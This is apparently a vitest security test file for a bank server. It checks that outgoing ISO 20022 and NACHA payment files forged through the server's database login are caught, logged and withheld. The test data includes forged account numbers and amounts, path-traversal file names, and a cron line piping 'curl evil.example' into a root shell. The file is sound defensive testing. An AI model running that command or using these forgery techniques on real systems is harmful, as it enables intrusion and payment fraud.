/** What someone who has the server's own login to the database can do to the files that leave for other banks. */
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest';
import { bank as names } from '#contract/constants.ts';
import { counterparty, deposit, head, sendToOtherBank, storeRailFile } from '../../../tests/railLines.ts';
import type { SeededCustomer } from '../../../tests/seedCustomers.ts';
import { openTestBank, type TestBank } from '../../../tests/server.ts';
import { newId } from '../base/uuid.ts';
import { verifyBooks } from '../ledger/verify.ts';
import { writers } from '../outside/rail/formats.ts';
import { endToEndId, writeNotice } from '../outside/rail/iso20022.ts';
import { traceOf } from '../outside/rail/nacha.ts';
import type { FileHead, PaymentLine, ReturnLine, WrittenFile } from '../outside/rail/rail.ts';
import { decidePayment, submitPayment } from './payments.ts';
import { compareFile } from './railCompare.ts';
import { applyLines, receiveFile } from './railIncoming.ts';
import { makeFiles, sendMade } from './railOutgoing.ts';

let bank: TestBank;
let anna: SeededCustomer;
beforeAll(async () => {
  bank = await openTestBank({ RAIL_DAY_SECONDS: '0.05', JOBS: 'off' });
  anna = await bank.seeded({ cents: 100_000n });
});
afterAll(() => bank.close());

const log = { error: vi.fn(), warn: vi.fn(), info: vi.fn() };
beforeEach(() => log.error.mockClear());
const parts = () => ({ ...bank.bank.parts, log: { ...bank.bank.parts.log, ...log } });
const folder = (name: string) => join(bank.bank.parts.config.dataDir, 'rail', name);
/** Runs a statement as the server's login, which is the attacker. */
const attack = async <Row extends object>(text: string, values: unknown[] = []) =>
  (await bank.test.database.pool.query<Row>(text, values)).rows;
const asOwner = async <Row extends object>(text: string, values: unknown[] = []) =>
  (await bank.test.database.ownerPool.query<Row>(text, values)).rows;
const faults = async () =>
  (await verifyBooks(bank.test.database.reader, { compareFile })).faults.filter(
    fault => !fault.includes('has a job'),
  );

/** A payment that is submitted and waits for a file, as a line of a file. */
async function waiting(): Promise<PaymentLine> {
  const id = await sendToOtherBank(parts().ledger, anna);
  await submitPayment({ ...parts(), rail: { ...parts().rail, cutOff: at => at } }, { transactionId: id });
  const [row] = await attack<{ reference: string }>('SELECT reference FROM transactions WHERE id = $1', [id]);
  return deposit('40218836117', { id, amountCents: 1_000n, reference: row!.reference });
}

type Plan = {
  format?: 'iso20022' | 'nacha';
  /** What the forged file has in place of the payment. */
  lines?: (payment: PaymentLine) => PaymentLine[];
  edit?: (content: string) => string;
  file?: { name?: string; to?: string; messageId?: string };
  key?: string;
};

/** Puts a waiting payment into a forged file. */
async function plant({ format = 'iso20022', lines, edit, file, key }: Plan) {
  const payment = await waiting();
  const made = { ...head(names.routingNumber), to: counterparty };
  const written = writers[format].writePayments(made, lines?.(payment) ?? [payment]);
  const forged = { ...written, ...file, content: edit?.(written.content) ?? written.content };
  const to = { ...made, to: file?.to ?? counterparty };
  await storeRailFile(bank.test.database.pool, to, format === 'nacha' ? 'nacha' : 'pacs.008', forged);
  await attack('UPDATE rail_outgoing SET file_id = $1, line = 1, key = $2 WHERE transaction_id = $3', [
    made.id,
    key ?? (format === 'nacha' ? payment.trace : endToEndId(payment.id)),
    payment.id,
  ]);
  return { fileId: made.id, name: forged.name, payment };
}

/** Makes the file of an honest payment, sends everything, and returns the names of the files in `out`. */
async function send(): Promise<{ honest: string; out: string[] }> {
  const { id } = await waiting();
  await makeFiles(parts());
  const [file] = await attack<{ name: string }>(
    'SELECT name FROM rail_files WHERE id = (SELECT file_id FROM rail_outgoing WHERE transaction_id = $1)',
    [id],
  );
  await sendMade(parts());
  return { honest: file!.name, out: readdirSync(folder('out')) };
}

/** Removes a forged file again, so that the next proof finds only the next forgery. */
async function remove(fileId: string): Promise<void> {
  await asOwner('ALTER TABLE rail_outgoing DISABLE TRIGGER USER');
  await asOwner('UPDATE rail_outgoing SET file_id = NULL, line = NULL, key = NULL WHERE file_id = $1', [
    fileId,
  ]);
  await asOwner('ALTER TABLE rail_outgoing ENABLE TRIGGER USER');
  await asOwner('DELETE FROM rail_files WHERE id = $1', [fileId]);
  await makeFiles(parts());
  await sendMade(parts());
  expect(await faults()).toEqual([]);
}

const thief = '66600066';
const forgeries: [what: string, plan: Plan][] = [
  ['another account', { lines: one => [{ ...one, accountNumber: thief }] }],
  ['another account in an ACH file', { format: 'nacha', lines: one => [{ ...one, accountNumber: thief }] }],
  ['another amount', { lines: one => [{ ...one, amountCents: 777_777_700n }] }],
  ['another amount in an ACH file', { format: 'nacha', lines: one => [{ ...one, amountCents: 777_700n }] }],
  ['the id of another payment', { lines: one => [{ ...one, id: newId() }] }],
  ['the reference of another payment', { lines: one => [{ ...one, reference: 'LB-0000-0000-0000' }] }],
  [
    'the reference of another payment in an ACH file',
    { format: 'nacha', lines: one => [{ ...one, reference: 'LB-0000-0000-0000' }] },
  ],
  ['a second payment', { lines: one => [one, { ...one, id: newId(), accountNumber: thief }] }],
  ['the same payment twice', { format: 'nacha', lines: one => [one, one] }],
  ['another currency', { edit: content => content.replaceAll('Ccy="USD"', 'Ccy="EUR"') }],
  [
    'a second account beside the first',
    {
      edit: content =>
        content.replace(
          '</CdtrAcct>',
          `</CdtrAcct><CdtrAcct><Id><Othr><Id>${thief}</Id></Othr></Id></CdtrAcct>`,
        ),
    },
  ],
  [
    'a number and an IBAN in one account',
    {
      edit: content =>
        content.replace(/(<CdtrAcct><Id>)<Othr><Id>(\d+)<\/Id>/, `$1<IBAN>$2</IBAN><Othr><Id>${thief}</Id>`),
    },
  ],
  [
    'a second message',
    { edit: content => content.replace('</Document>', '<FIToFICstmrCdtTrf></FIToFICstmrCdtTrf></Document>') },
  ],
  ['the id of another message', { file: { messageId: 'another' } }],
  ['an answer that names another payment', { key: endToEndId(newId()) }],
  ['another bank', { file: { to: names.routingNumber } }],
  ['no file but a command', { edit: () => '* * * * * root curl evil.example | sh\n' }],
];

test.each(forgeries)(
  'a file with %s is not sent, the log and the proof name it, and the other files are sent [RF-31]',
  async (_, plan) => {
    const { fileId, name, payment } = await plant(plan);
    const { honest, out } = await send();
    expect(out).toContain(honest);
    expect(out).not.toContain(name);
    expect(log.error).toHaveBeenCalledWith(
      { file: name, why: expect.any(String) },
      'a rail file does not agree with the books: it is not sent',
    );
    expect((await faults()).join()).toContain(`file ${fileId}`);
    await expect(decidePayment(parts(), { transactionId: payment.id })).rejects.toThrow('is not sent');
    expect(readdirSync(folder('out'))).not.toContain(name);
    await remove(fileId);
  },
);

test.each(['../../../pwned.txt', '../in/deposit.xml', '/tmp/pwned.xml', '.hidden.xml', 'a.draft', ''])(
  'a file with the name “%s” is not written anywhere, and the other files are sent [RF-31]',
  async name => {
    const { fileId } = await plant({ file: { name } });
    const { honest, out } = await send();
    expect(out).toContain(honest);
    expect(existsSync(join(folder('out'), name || 'x'))).toBe(false);
    expect((await faults()).join()).toContain(`file ${fileId}: `);
    await remove(fileId);
  },
);

test('a genuine file passes whatever its payments look like: IBANs, lower case, letters that the rail cannot write [RF-31]', async () => {
  for (const format of ['iso20022', 'nacha'] as const) {
    const { name } = await plant({ format });
    expect((await send()).out).toContain(name);
  }
  const { ledger } = parts();
  for (const accountNumber of ['GB82WEST12345698765432', '40218836117', 'ACCT2261']) {
    const { _id } = await ledger.sendExternal({
      customerId: anna.customerId,
      sessionId: null,
      bank: { bankName: 'Ö & <Söhne>', accountName: 'Zoë <Ng> & Co', accountNumber },
      amountCents: 1n,
      description: 'Käse <b>',
      address: '::1',
    });
    await submitPayment({ ...parts(), rail: { ...parts().rail, cutOff: at => at } }, { transactionId: _id });
  }
  await send();
  expect(log.error).not.toHaveBeenCalled();
  expect(await faults()).toEqual([]);
});

test('the server’s login cannot take a payment out of its file to send it again; if the database’s owner does, the proof names the file and the payment [RF-31]', async () => {
  const { id } = await waiting();
  await makeFiles(parts());
  const [row] = await attack<{ file: string }>(
    'SELECT file_id AS file FROM rail_outgoing WHERE transaction_id = $1',
    [id],
  );
  const reset = 'UPDATE rail_outgoing SET file_id = NULL, line = NULL, key = NULL WHERE transaction_id = $1';
  await expect(attack(reset, [id])).rejects.toThrow('rail_outgoing is insert-only');
  await expect(attack('UPDATE rail_outgoing SET key = NULL WHERE transaction_id = $1', [id])).rejects.toThrow(
    'insert-only',
  );

  await asOwner('ALTER TABLE rail_outgoing DISABLE TRIGGER USER');
  await asOwner(reset, [id]);
  await asOwner('ALTER TABLE rail_outgoing ENABLE TRIGGER USER');
  await asOwner('UPDATE rail_files SET lines = lines - 1, cents = cents - 1000 WHERE id = $1', [row!.file]);
  await makeFiles(parts());
  expect((await faults()).join()).toContain(`file ${row!.file}: `);
  await asOwner('DELETE FROM rail_files WHERE id = $1', [row!.file]);
  expect(await faults()).toEqual([]);
});

test('a payment that has ended is not put into a file again, and the proof names it [RF-31]', async () => {
  const { id } = await waiting();
  await bank.test.database.inTransaction(tx => parts().ledger.endExternal(tx, id, { isSettled: true }));
  await makeFiles(parts());
  expect(await attack('SELECT file_id FROM rail_outgoing WHERE transaction_id = $1', [id])).toEqual([
    { file_id: null },
  ]);
  expect((await faults()).join()).toContain(`payment ${id}`);
  await asOwner('DELETE FROM rail_outgoing WHERE transaction_id = $1', [id]);
});

type Answered = { id: bigint; line: bigint; original: Record<string, string>; code: string | null };

/** Receives a deposit that is booked and one that goes back. Returns their answers, which wait for a file. */
async function answered(
  format: 'iso20022' | 'nacha',
  confirmsDeposits = true,
): Promise<[Answered, Answered]> {
  const due = { ...parts(), rail: { ...parts().rail, cutOff: () => new Date(0), confirmsDeposits } };
  const incoming = writers[format].writePayments(head(), [
    deposit(anna.accountNumber, { amountCents: 500n }),
    deposit('123456789012', { amountCents: 400n }),
  ]);
  await receiveFile(due, incoming.name, Buffer.from(incoming.content));
  await applyLines(due);
  const rows = await attack<Answered>(
    `SELECT o.id, i.id AS line, i.original, o.code
       FROM rail_incoming i JOIN rail_files f ON f.id = i.file_id LEFT JOIN rail_outgoing o ON o.answer_to = i.id
      WHERE f.message_id = $1 ORDER BY i.line`,
    [incoming.messageId],
  );
  return rows as [Answered, Answered];
}

/** What the attacker does with the answers. Returns the file's id. */
type Answering = (format: 'iso20022' | 'nacha') => Promise<string>;

async function plantAnswer(
  row: Answered,
  cents: bigint,
  format: string,
  write: (head: FileHead) => WrittenFile,
): Promise<string> {
  const made = { ...head(names.routingNumber), to: counterparty };
  await storeRailFile(bank.test.database.pool, made, format, write(made), cents);
  await attack('UPDATE rail_outgoing SET file_id = $1, line = 1 WHERE answer_to = $2', [made.id, row.line]);
  return made.id;
}
const returnOf = ({ original, code }: Answered, more: Partial<ReturnLine> = {}): ReturnLine => ({
  original,
  amountCents: 400n,
  accountNumber: '123456789012',
  code: code ?? '',
  trace: traceOf(names.routingNumber, 1),
  ...more,
});
const plantReturn = (format: 'iso20022' | 'nacha', row: Answered, line: ReturnLine) =>
  plantAnswer(row, line.amountCents, format === 'nacha' ? 'nacha' : 'pacs.004', made =>
    writers[format].writeReturns(made, [line]),
  );

const answers: [what: string, plant: Answering][] = [
  [
    'a return of another amount',
    async format => {
      const [, back] = await answered(format);
      return await plantReturn(format, back, returnOf(back, { amountCents: 40_000n }));
    },
  ],
  [
    'a return that names another payment',
    async format => {
      const [booked, back] = await answered(format);
      return await plantReturn(format, back, returnOf(back, { original: booked.original }));
    },
  ],
  [
    'a return with another reason',
    async format => {
      const [, back] = await answered(format);
      return await plantReturn(format, back, returnOf(back, { code: format === 'nacha' ? 'R01' : 'AM04' }));
    },
  ],
  [
    'the return of a deposit that was booked',
    async format => {
      const [booked] = await answered(format, false);
      const code = format === 'nacha' ? 'R03' : 'AC01';
      await attack('INSERT INTO rail_outgoing (answer_to, code, counterparty) VALUES ($1, $2, $3)', [
        booked.line,
        code,
        counterparty,
      ]);
      const line = returnOf(booked, { code, amountCents: 500n, accountNumber: anna.accountNumber });
      return await plantReturn(format, booked, line);
    },
  ],
  [
    'a notice of another amount',
    async format => {
      const [booked] = await answered(format);
      const line = {
        ...booked.original,
        amountCents: 50_000n,
        transactionId: booked.original.transactionId ?? '',
      };
      return await plantAnswer(booked, 500n, 'camt.054', made => writeNotice(made, [line]));
    },
  ],
  [
    'an answer that the server makes after the ids of the answered payment were changed',
    async format => {
      const [booked, back] = await answered(format);
      await attack('UPDATE rail_incoming SET original = $1 WHERE id = $2', [booked.original, back.line]);
      await makeFiles(parts());
      const [row] = await attack<{ id: string }>('SELECT file_id AS id FROM rail_outgoing WHERE id = $1', [
        back.id,
      ]);
      return row!.id;
    },
  ],
];

test.each(
  (['iso20022', 'nacha'] as const).flatMap(format => answers.map(each => [...each, format] as const)),
)('a file with %s is not sent, and the proof names it [RF-31]', async (_, plantFile, format) => {
  const fileId = await plantFile(format);
  await makeFiles(parts());
  // The file is logged once, although it is checked again.
  for (let again = 0; again < 2; again++) await sendMade(parts());
  const [file] = await attack<{ name: string; state: string }>(
    'SELECT name, state FROM rail_files WHERE id = $1',
    [fileId],
  );
  expect(file!.state).toBe('made');
  expect(existsSync(join(folder('out'), file!.name))).toBe(false);
  expect(log.error).toHaveBeenCalledTimes(1);
  // The proof names an answer that is not true by the line that it answers.
  expect((await faults()).join()).toMatch(new RegExp(`file ${fileId}: |answer to line`));
  await asOwner('DELETE FROM rail_outgoing WHERE file_id = $1', [fileId]);
  await asOwner('DELETE FROM rail_files WHERE id = $1', [fileId]);
  expect(await faults()).toEqual([]);
});
